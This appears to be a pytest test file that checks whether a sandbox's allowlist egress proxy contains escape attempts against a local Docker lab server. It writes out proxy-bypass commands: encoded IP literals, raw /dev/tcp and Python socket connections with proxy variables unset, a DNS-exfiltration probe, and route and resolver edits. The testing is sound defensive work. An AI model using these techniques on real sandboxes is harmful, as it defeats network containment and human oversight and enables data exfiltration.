"""Getting past the egress proxy of an ``allowlist`` sandbox: each attack is contained.

Real engine, real Squid. The only server is on a Docker network the test creates
(``tests/support/egress_lab.py``); it answers with a greeting, so "contained" means the
greeting never comes back. Nothing is sent off this machine.
"""

from __future__ import annotations

import contextlib
import ipaddress
import socket
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import anyio
import docker
import pytest
from conftest import make_workspace, sandbox_settings
from support.egress_lab import ALLOWED, GREETING, PRIVATE, EgressLab, egress_lab, join_lab

from terminus_mcp.sandbox.api import SessionSpec
from terminus_mcp.sandbox.docker_backend import DockerSession
from terminus_mcp.sandbox.manager import SandboxManager

from .conftest import Figure
from .support import LoopbackListener

pytestmark = [pytest.mark.anyio, pytest.mark.docker]

CURL = "curl -sS --max-time 8"
UNSET = "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u NO_PROXY -u no_proxy"


@pytest.fixture(scope="module")
def lab(docker_client: docker.DockerClient, workspace_root: Path) -> Iterator[EgressLab]:
    with egress_lab(docker_client, sandbox_settings(workspace_root).sandbox_image) as bench:
        yield bench


@contextlib.asynccontextmanager
async def _manager(
    client: docker.DockerClient, root: Path, **overrides: object
) -> AsyncIterator[SandboxManager]:
    settings = sandbox_settings(
        root,
        network="allowlist",
        allow_hosts=[ALLOWED, PRIVATE, "localhost"],
        allow_private_hosts=[ALLOWED],
        **overrides,
    )
    async with SandboxManager(settings, client=client) as manager:
        yield manager


@pytest.fixture(scope="module")
async def manager(
    docker_client: docker.DockerClient, workspace_root: Path
) -> AsyncIterator[SandboxManager]:
    async with _manager(docker_client, workspace_root) as opened:
        yield opened


@pytest.fixture
async def session(
    manager: SandboxManager,
    workspace: Path,
    lab: EgressLab,
    docker_client: docker.DockerClient,
) -> AsyncIterator[DockerSession]:
    opened = await manager.create(SessionSpec(workdir=workspace))
    assert opened.route is not None
    join_lab(docker_client, lab, opened.route.proxy_container)
    ok = await sh(opened, f"{CURL} http://{ALLOWED}/")
    assert GREETING in ok, f"the bench must work before it is attacked: {ok}"
    yield opened
    await manager.close(opened.id)


async def sh(session: DockerSession, command: str) -> str:
    result = await session.run(command + " 2>&1; echo exit=$?", timeout_s=90)
    return result.output


def contained(outputs: dict[str, str]) -> list[str]:
    """The attempts that got the greeting back (should be none)."""
    return [name for name, out in outputs.items() if GREETING in out]


@pytest.mark.check("attack", "egress-ip-literals")
async def test_ip_literals(session: DockerSession, lab: EgressLab, figure: Figure) -> None:
    ip = lab.server_ip
    packed = int.from_bytes(socket.inet_aton(ip), "big")
    urls = {
        "dotted": f"http://{ip}/",
        "decimal": f"http://{packed}/",
        "hex": f"http://{hex(packed)}/",
        "ipv4-mapped-ipv6": f"http://[::ffff:{ip}]/",
        "loopback": "--noproxy '' http://127.0.0.1:3128/",
        "connect-dotted": f"--proxytunnel http://{ip}:443/",
    }
    outputs = {name: await sh(session, f"{CURL} -i {url}") for name, url in urls.items()}
    assert contained(outputs) == [], outputs
    refused = [n for n, out in outputs.items() if "403 Forbidden" in out or "response 403" in out]
    figure.note(f"{len(urls)} IP-literal forms, {len(refused)} refused by the proxy with 403")
    assert sorted(refused) == sorted(urls), outputs


@pytest.mark.check("attack", "egress-connect-other-ports")
async def test_connect_to_other_ports(session: DockerSession, figure: Figure) -> None:
    ports = [22, 80, 3128, 8443]
    outputs = {
        str(port): await sh(session, f"{CURL} --proxytunnel http://{ALLOWED}:{port}/")
        for port in ports
    }
    assert contained(outputs) == [], outputs
    assert all("CONNECT tunnel failed, response 403" in out for out in outputs.values()), outputs
    figure.note(f"CONNECT to ports {ports} of an allowed host: 403 each; only 443 tunnels")


@pytest.mark.check("attack", "egress-ipv6")
async def test_ipv6(session: DockerSession, figure: Figure) -> None:
    outputs = {
        "proxy-[::1]": await sh(session, f"{CURL} -i http://[::1]/"),
        "proxy-[fe80::1]": await sh(session, f"{CURL} -i 'http://[fe80::1%25eth0]/'"),
        "proxy-connect-[::1]": await sh(session, f"{CURL} --proxytunnel http://[::1]:443/"),
        "direct-v6": await sh(session, f"{UNSET} {CURL} -6 'http://[ff02::1%25eth0]/'"),
    }
    assert contained(outputs) == [], outputs
    routes = await sh(session, "ip -6 route; grep -v -e ' lo$' /proc/net/if_inet6 || true")
    assert "default" not in routes, routes
    assert all(not line.startswith(("2", "3")) for line in routes.splitlines()), routes
    figure.note("IPv6 literals refused by the proxy; no global IPv6 address or route")


@pytest.mark.check("attack", "egress-unset-proxy")
async def test_unset_proxy_variables(
    session: DockerSession, lab: EgressLab, figure: Figure
) -> None:
    ip = lab.server_ip
    outputs = {
        "curl-direct": await sh(session, f"{UNSET} {CURL} http://{ip}/"),
        "curl-name": await sh(session, f"{UNSET} {CURL} http://{ALLOWED}/"),
        "bash-dev-tcp": await sh(
            session, f"timeout 8 bash -c 'exec 3<>/dev/tcp/{ip}/80; echo GET / >&3; cat <&3'"
        ),
        "python-socket": await sh(
            session,
            f"{UNSET} timeout 8 python3 -c \"import socket; s=socket.create_connection(('{ip}',"
            " 80), 5); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(200))\"",
        ),
    }
    assert contained(outputs) == [], outputs
    assert all("exit=0" not in out for out in outputs.values()), outputs
    figure.note("without the proxy variables: no route to the server (curl, /dev/tcp, python)")


@pytest.mark.check("attack", "egress-dns-private-and-loopback")
async def test_names_resolving_to_private_or_loopback(
    session: DockerSession, figure: Figure
) -> None:
    outputs = {
        "private-name": await sh(session, f"{CURL} -i http://{PRIVATE}/"),
        "localhost-name": await sh(session, f"{CURL} --noproxy '' -i http://localhost:80/"),
        "localhost-proxy-port": await sh(
            session, f"{CURL} --noproxy '' --proxytunnel http://localhost:443/"
        ),
    }
    assert contained(outputs) == [], outputs
    assert all("403" in out for out in outputs.values()), outputs
    figure.note("allowlisted names resolving to a private or loopback address: 403")


@pytest.mark.check("attack", "egress-dns-exfiltration")
async def test_engine_resolver_forwards_nothing(
    session: DockerSession, docker_client: docker.DockerClient, figure: Figure
) -> None:
    """The engine's resolver (127.0.0.11) must not forward queries off the internal network
    (CVE-2024-29018 on older engines): its upstream is set to the proxy, which answers no DNS.
    The engine here (20.10) gave no answer with or without that setting, so the setting is
    also asserted on the container."""
    assert session.route is not None
    config = docker_client.containers.get(session.container_id).attrs["HostConfig"]
    assert config["Dns"] == [session.route.proxy_ip]
    query = (
        "import socket,struct,secrets\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(8)\n"
        "name = 'exfil-' + secrets.token_hex(4) + '.egress-lab.invalid'\n"
        "q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)\n"
        "q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.'))\n"
        "q += b'\\0' + struct.pack('>HH', 1, 1)\n"
        "s.sendto(q, ('127.0.0.11', 53))\n"
        "try:\n"
        "    print('rcode', s.recv(512)[3] & 15)\n"
        "except TimeoutError:\n"
        "    print('no answer within 8 s')\n"
    )
    await anyio.Path(session.info().workdir, "dns_probe.py").write_text(query)
    out = await sh(session, "timeout 20 python3 /workspace/dns_probe.py")
    assert "rcode 3" not in out, f"an upstream resolver answered NXDOMAIN: {out}"
    assert "rcode 0" not in out, out
    figure.note("engine resolver: " + (out.splitlines()[0] if out else "no answer"))


@pytest.mark.check("attack", "egress-edit-own-network")
async def test_script_edits_its_own_network(
    docker_client: docker.DockerClient,
    workspace_root: Path,
    lab: EgressLab,
    figure: Figure,
) -> None:
    """Setup scripts run as the workspace owner; on a root-owned workspace that is root (with
    no capabilities). Neither can change routes, addresses, namespaces or the proxy."""
    root_owned = workspace_root / "egress-root-owned"
    root_owned.mkdir(exist_ok=True)
    plain = make_workspace(workspace_root, "egress-user")
    attempts = (
        "ip route add default via {proxy} 2>&1; ip addr add 10.9.9.9/24 dev eth0 2>&1; "
        "ip link set eth0 down 2>&1; unshare -n true 2>&1; "
        "echo 'nameserver 1.1.1.1' > /etc/resolv.conf 2>&1; "
        "sysctl -w net.ipv4.ip_forward=1 2>&1; id -u"
    )
    async with _manager(docker_client, workspace_root, sandbox_user="auto") as manager:
        for work in (root_owned, plain):
            opened = await manager.create(SessionSpec(workdir=work))
            assert opened.route is not None
            join_lab(docker_client, lab, opened.route.proxy_container)
            out = await sh(opened, attempts.format(proxy=opened.route.proxy_ip))
            assert out.count("Operation not permitted") >= 3, out
            after = await sh(opened, f"{UNSET} {CURL} http://{lab.server_ip}/; ip addr; ip route")
            assert GREETING not in after, after
            assert "10.9.9.9" not in after, after
            uid = out.strip().splitlines()[-2]
            figure.note(f"uid {uid}: route/addr/link/unshare refused")
            await manager.close(opened.id)


def _gateway(client: docker.DockerClient, network: str) -> str:
    """A network's gateway address (the subnet's first address when the engine omits it)."""
    config = client.networks.get(network).attrs["IPAM"]["Config"][0]
    return str(config.get("Gateway") or next(ipaddress.ip_network(config["Subnet"]).hosts()))


@pytest.mark.check("attack", "egress-host-services")
async def test_host_services_through_the_gateway(
    session: DockerSession, docker_client: docker.DockerClient, figure: Figure
) -> None:
    """A host service listening on every interface: the internal network's gateway address is
    not the host's (no address on its bridge), and the default bridge is not routed to."""
    assert session.route is not None
    gateway = _gateway(docker_client, session.route.network)
    bridge = _gateway(docker_client, "bridge")
    with LoopbackListener("0.0.0.0") as listener:
        listener.probe_from_host()
        seen = listener.tcp_hits
        outputs = {
            target: await sh(
                session,
                f"{UNSET} timeout 8 bash -c 'echo x > /dev/tcp/{target}/{listener.port}' "
                f"&& echo connected-{target}",
            )
            for target in (gateway, bridge)
        }
        reached = listener.tcp_hits - seen
    assert reached == 0, outputs
    assert all("connected-" not in out for out in outputs.values()), outputs
    figure.note(f"host listener on all interfaces: not reached via {gateway} or {bridge}")
